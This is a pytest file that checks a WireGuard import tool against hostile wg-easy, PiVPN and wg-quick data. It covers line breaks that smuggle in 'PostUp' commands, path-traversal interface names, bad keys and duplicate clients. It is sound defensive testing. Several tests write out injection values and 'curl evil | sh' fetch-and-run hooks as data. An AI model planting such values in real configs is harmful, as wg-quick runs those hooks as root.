"""``zsn wg import`` given a hostile neighbour's data: the real sources of
fixtures/wireguard/imports/ (SOURCES.md) with one field changed the way a neighbour
with write access to a wg-easy volume, a PiVPN folder or a wg-quick folder could.

Every value is checked as wg and wg-quick would check it before it is written: a
field holding a line break never becomes a second line (a ``PostUp =`` wg-quick runs
as root), bad keys, duplicate keys, names and addresses, a pre-shared key ``short``
and an expiry zsn cannot read are refused (exit 2, naming the client, nothing
written). Commands the source runs as root are named in the plan and left out
unless ``--keep-commands``; a client config never carries them."""

from __future__ import annotations

import json
import shutil
import sqlite3
from pathlib import Path

import pytest

from tests.unit.test_wireguard_imports import IMPORTS, put, tree, zsn
from zsn.wireguard.config import parse
from zsn.wireguard.keys import public_key_from_private

V14 = IMPORTS / "wg-easy" / "v14.0.0"
V15 = IMPORTS / "wg-easy" / "v15" / "wg-easy.db"
INJECTED = "\nPostUp = touch /tmp/zsn-pwned"


def v14(tmp_path: Path, change: object) -> str:
    """wg-easy v14's wg0.json with `change(data)` applied, under --root; its path."""
    folder = tmp_path / "srv/import"
    shutil.copytree(V14, folder)
    data = json.loads((folder / "wg0.json").read_text())
    change(data)  # type: ignore[operator]
    (folder / "wg0.json").write_text(json.dumps(data))
    return "/srv/import/wg0.json"


def first(data: dict[str, dict[str, dict[str, object]]]) -> dict[str, object]:
    return next(iter(data["clients"].values()))


def second(data: dict[str, dict[str, dict[str, object]]]) -> dict[str, object]:
    return list(data["clients"].values())[1]


def refused(tmp_path: Path, *args: str) -> str:
    """Run an import that must be refused: exit 2, one line, nothing written."""
    before = tree(tmp_path)
    result = zsn(tmp_path, "wg", "import", *args)
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert tree(tmp_path) == before
    return result.stderr


ENV = ("--endpoint", "vpn.example.com")


@pytest.mark.parametrize("field", ["publicKey", "privateKey", "preSharedKey", "address"])
def test_a_v14_field_holding_a_line_break_writes_no_second_line(tmp_path: Path,
                                                                field: str) -> None:
    def change(data: dict[str, dict[str, dict[str, object]]]) -> None:
        first(data)[field] = str(first(data)[field]) + INJECTED

    message = refused(tmp_path, "wg-easy", v14(tmp_path, change), *ENV)
    assert "alice phone" in message or "clients" in message  # the client, or its field


def test_a_v14_name_holding_a_line_break_stays_one_name(tmp_path: Path) -> None:
    def change(data: dict[str, dict[str, dict[str, object]]]) -> None:
        first(data)["name"] = "alice" + INJECTED

    result = zsn(tmp_path, "wg", "import", "wg-easy", v14(tmp_path, change), *ENV)
    assert result.returncode == 0, result.stderr
    assert "named 'alice-PostUp-touch-tmp-zsn-pwned'" in result.stderr
    for path in (tmp_path / "etc/wireguard").rglob("*.conf"):
        config = parse(path.read_text())
        assert not any(entry.key == "PostUp" for section in config.sections
                       for entry in section.entries), path


@pytest.mark.parametrize(("variable", "value"), [
    ("WG_HOST", "vpn example.com"), ("WG_PORT", "99999"), ("WG_DEFAULT_DNS", "1.1.1.1 ;x"),
    ("WG_ALLOWED_IPS", "0.0.0.0/0, everything"), ("WG_MTU", "1420 PostUp"),
    ("WG_PERSISTENT_KEEPALIVE", "-1"), ("WG_CONFIG_PORT", "0"),
])
def test_a_v14_environment_value_wg_would_refuse_is_refused(tmp_path: Path, variable: str,
                                                            value: str) -> None:
    """(An env file is read line by line: a value never holds a line break.)"""
    folder = put(tmp_path, V14)
    env = tmp_path / folder.lstrip("/") / "environment"
    env.write_text(env.read_text() + f"\n{variable}={value}\n")
    refused(tmp_path, "wg-easy", folder, "--env", f"{folder}/environment")


@pytest.mark.parametrize(("field", "value", "words"), [
    ("publicKey", "not-a-key", "public key is not a WireGuard key"),
    ("publicKey", "A" * 42 + "B=", "public key is not a WireGuard key"),  # not canonical
    ("preSharedKey", "short", "preSharedKey is not a WireGuard key"),
    ("privateKey", "c2hvcnQ=", "privateKey is not a WireGuard key"),
    ("address", "10.8.0.300", "10.8.0.300"),
    ("expiredAt", "next tuesday", "not a date and time zsn can read"),
    ("expiredAt", "0001-01-01T00:00:00+14:00", "not a date and time zsn can read"),
    ("expiredAt", "", "not a date and time zsn can read"),  # was taken for "never"
])
def test_a_v14_value_wg_would_refuse_is_refused_naming_the_client(
        tmp_path: Path, field: str, value: str, words: str) -> None:
    def change(data: dict[str, dict[str, dict[str, object]]]) -> None:
        first(data)[field] = value

    message = refused(tmp_path, "wg-easy", v14(tmp_path, change), *ENV)
    assert words in message and ("alice phone" in message or "clients" in message)


@pytest.mark.parametrize(("field", "what"), [("publicKey", "public key"),
                                             ("address", "address"), ("name", "name")])
def test_two_v14_clients_sharing_a_key_address_or_name_are_refused_naming_both(
        tmp_path: Path, field: str, what: str) -> None:
    def change(data: dict[str, dict[str, dict[str, object]]]) -> None:
        second(data)[field] = first(data)[field]

    message = refused(tmp_path, "wg-easy", v14(tmp_path, change), *ENV)
    assert f"same {what}" in message
    assert "alice phone" in message and "dc902093" in message  # both clients named


@pytest.mark.parametrize(("field", "value", "words"), [
    ("address", "10.8.0.1", "has the address of wg0 itself, 10.8.0.1"),
    ("publicKey", "1fo87Apauva/scZfeSu1DwnnSHSkn1ZTujU7BE9iFBE=",  # the server's
     "has the public key of wg0 itself: wg would ignore the peer"),
])
def test_a_v14_client_with_the_servers_own_address_or_key_is_refused(
        tmp_path: Path, field: str, value: str, words: str) -> None:
    def change(data: dict[str, dict[str, dict[str, object]]]) -> None:
        first(data)[field] = value

    message = refused(tmp_path, "wg-easy", v14(tmp_path, change), *ENV)
    assert words in message and "alice phone" in message


def test_a_v14_document_nested_too_deep_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "srv/import"
    folder.mkdir(parents=True)
    (folder / "wg0.json").write_text("[" * 100_000 + "]" * 100_000)
    message = refused(tmp_path, "wg-easy", "/srv/import/wg0.json", *ENV)
    assert "nested more than" in message


def v15(tmp_path: Path, sql: str, *parameters: object) -> str:
    """wg-easy v15's database changed by `sql` (its unique indexes dropped first, as
    whoever can write the file can), under --root; its path there."""
    copy = tmp_path / "srv/wg-easy.db"
    copy.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(V15, copy)
    with sqlite3.connect(copy) as db:
        for index in ("clients_table_ipv4_address_unique", "clients_table_ipv6_address_unique",
                      "public_key_interface_unique"):
            db.execute(f"DROP INDEX {index}")
        db.execute(sql, parameters)
    return "/srv/wg-easy.db"


@pytest.mark.parametrize("column", ["public_key", "private_key", "pre_shared_key",
                                    "ipv4_address", "ipv6_address", "mtu",
                                    "persistent_keepalive", "server_endpoint"])
def test_a_v15_column_holding_a_line_break_writes_no_second_line(tmp_path: Path,
                                                                 column: str) -> None:
    database = v15(tmp_path, f"UPDATE clients_table SET {column} = "
                   f"coalesce({column}, '1.2.3.4:5') || ? WHERE id = 1", INJECTED)
    message = refused(tmp_path, "wg-easy", database)
    assert "alice-phone" in message or "clients_table" in message  # the client or table


@pytest.mark.parametrize(("column", "value"), [
    ("dns", json.dumps(["1.1.1.1" + INJECTED])),
    ("allowed_ips", json.dumps(["0.0.0.0/0" + INJECTED])),
    ("server_allowed_ips", json.dumps(["192.168.1.0/24" + INJECTED])),
    ("dns", '"not a list"'),
])
def test_a_v15_list_holding_a_line_break_or_no_list_is_refused(tmp_path: Path, column: str,
                                                               value: str) -> None:
    database = v15(tmp_path, f"UPDATE clients_table SET {column} = ? WHERE id = 1",
                   value)
    refused(tmp_path, "wg-easy", database)


@pytest.mark.parametrize(("sql", "words"), [
    ("UPDATE clients_table SET pre_shared_key = 'short' WHERE id = 1", "pre_shared_key"),
    ("UPDATE clients_table SET expires_at = 'soon' WHERE id = 1", "can read"),
    ("UPDATE clients_table SET public_key = (SELECT public_key FROM clients_table "
     "WHERE id = 2) WHERE id = 1", "same public key"),
    ("UPDATE clients_table SET ipv4_address = '10.8.0.3' WHERE id = 1", "same address"),
    ("UPDATE clients_table SET expires_at = '' WHERE id = 1", "can read"),
    ("UPDATE clients_table SET ipv4_address = '10.8.0.1' WHERE id = 1",
     "address of wg0 itself, 10.8.0.1"),
    ("UPDATE clients_table SET ipv6_address = 'fdcc:ad94:bacf:61a4::cafe:1' WHERE id = 1",
     "address of wg0 itself"),
    ("UPDATE clients_table SET public_key = 'fHMqRw3EU+Ng2kA+VGYMOpG6lEqMTv5FQcrZoTNXtkg=' "
     "WHERE id = 1", "public key of wg0 itself"),  # the interface's own
    ("UPDATE clients_table SET server_allowed_ips = '[\"10.8.0.3/32\"]' WHERE id = 1",
     "same address"),
    ("UPDATE interfaces_table SET name = '../../tmp/x'", "interface name"),
    ("UPDATE interfaces_table SET ipv4_cidr = '10.8.0.0/24\nPostUp = x'", "interfaces_table"),
    ("UPDATE user_configs_table SET host = 'vpn.example.com\nPostUp = x'", "endpoint"),
])
def test_a_v15_value_wg_would_refuse_is_refused(tmp_path: Path, sql: str, words: str) -> None:
    message = refused(tmp_path, "wg-easy", v15(tmp_path, sql))
    assert words in message


def test_v15_hooks_are_named_and_kept_only_when_asked(tmp_path: Path) -> None:
    database = v15(tmp_path, "UPDATE clients_table SET post_up = 'curl evil | sh' WHERE id = 1")
    dry = zsn(tmp_path, "wg", "import", "wg-easy", database, "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert "left out" in dry.stdout and "MASQUERADE" in dry.stdout  # the server's hooks
    assert "curl evil | sh" in dry.stdout  # the client's: named, never copied
    assert "+PostUp" not in dry.stdout
    kept = zsn(tmp_path, "wg", "import", "wg-easy", database, "--keep-commands")
    assert kept.returncode == 0, kept.stderr
    assert "run as root" in kept.stderr
    server = parse((tmp_path / "etc/wireguard/wg0.conf").read_text())
    assert server.interface is not None
    ups = server.interface.get_all("PostUp")
    assert any("MASQUERADE" in up and "{{" not in up for up in ups)
    for client in (tmp_path / "etc/wireguard/clients/wg0").iterdir():
        assert "curl" not in client.read_text() and "PostUp" not in client.read_text()


HOOKED = ("PostUp = iptables -A FORWARD -i %i -j ACCEPT\n"
          "PostDown = iptables -D FORWARD -i %i -j ACCEPT\n")


def hooked_folder(tmp_path: Path) -> str:
    folder = put(tmp_path, IMPORTS / "wg-quick" / "etc-wireguard")
    server = tmp_path / folder.lstrip("/") / "wg0.conf"
    server.write_text(server.read_text().replace("ListenPort", HOOKED + "ListenPort", 1))
    client = tmp_path / folder.lstrip("/") / "alice.conf"
    client.write_text(client.read_text().replace("[Peer]", "PreUp = curl evil | sh\n\n[Peer]"))
    return folder


def test_wg_quick_commands_are_left_out_unless_kept_and_named_either_way(
        tmp_path: Path) -> None:
    folder = hooked_folder(tmp_path)
    result = zsn(tmp_path, "wg", "import", "wg-quick", folder)
    assert result.returncode == 0, result.stderr
    assert "left out" in result.stderr and "iptables -A FORWARD" in result.stderr
    assert "--keep-commands" in result.stderr
    written = (tmp_path / "etc/wireguard/wg0.conf").read_text()
    assert "PostUp" not in written and "PostDown" not in written
    assert "curl" not in (tmp_path / "etc/wireguard/clients/wg0/alice.conf").read_text()
    assert "curl evil | sh" in result.stderr

    again = tmp_path / "again"
    folder = hooked_folder(again)
    kept = zsn(again, "wg", "import", "wg-quick", folder, "--keep-commands", "--dry-run")
    assert kept.returncode == 0, kept.stderr
    assert "run as root" in kept.stdout and "iptables -A FORWARD" in kept.stdout
    assert "+PostUp = iptables" in kept.stdout


def test_peer_show_never_hands_out_a_config_that_runs_commands(tmp_path: Path) -> None:
    folder = put(tmp_path, IMPORTS / "wg-quick" / "etc-wireguard")
    assert zsn(tmp_path, "wg", "import", "wg-quick", folder).returncode == 0
    client = tmp_path / "etc/wireguard/clients/wg0/alice.conf"
    assert zsn(tmp_path, "peer", "show", "wg0", "alice").returncode == 0
    client.write_text(client.read_text().replace("[Peer]", "PostUp = curl evil | sh\n[Peer]"))
    shown = zsn(tmp_path, "peer", "show", "wg0", "alice")
    assert shown.returncode == 2 and "curl" not in shown.stdout
    assert "PostUp" in shown.stderr and "root on the client" in shown.stderr


def test_a_pivpn_interface_name_that_is_a_path_is_refused(tmp_path: Path) -> None:
    shutil.copytree(IMPORTS / "pivpn" / "ci-ipv4", tmp_path, dirs_exist_ok=True)
    setup = tmp_path / "etc/pivpn/wireguard/setupVars.conf"
    setup.write_text(setup.read_text().replace("pivpnDEV=wg0", "pivpnDEV=../../srv/x")
                     + "pivpnDEV=../../srv/x\n")
    assert "interface name" in refused(tmp_path, "pivpn")


def test_a_wg_quick_folder_with_a_key_wg_refuses_is_refused_naming_the_line(
        tmp_path: Path) -> None:
    folder = put(tmp_path, IMPORTS / "wg-quick" / "etc-wireguard")
    server = tmp_path / folder.lstrip("/") / "wg0.conf"
    lines = server.read_text().splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.startswith("PresharedKey"))
    lines[at] = "PresharedKey = short\n"
    server.write_text("".join(lines))
    message = refused(tmp_path, "wg-quick", folder)
    assert f"wg0.conf:{at + 1}" in message and "32-byte base64" in message



@pytest.mark.parametrize("what", ["public key", "address"])
def test_a_wg_quick_peer_that_is_the_interface_itself_is_refused(tmp_path: Path,
                                                                 what: str) -> None:
    folder = put(tmp_path, IMPORTS / "wg-quick" / "etc-wireguard")
    server = tmp_path / folder.lstrip("/") / "wg0.conf"
    text = server.read_text()
    interface = parse(text).interface
    assert interface is not None
    own_key = public_key_from_private(interface.get("PrivateKey") or "")
    server.write_text(text.replace("j4HL0OBU4pDoOGnaIb0FCIFkwhCjf4p8LK46mnvRFjU=", own_key)
                      if what == "public key" else
                      text.replace("AllowedIPs = 10.9.0.2/32", "AllowedIPs = 10.9.0.1/32"))
    assert f"has the {what} of wg0 itself" in refused(tmp_path, "wg-quick", folder)
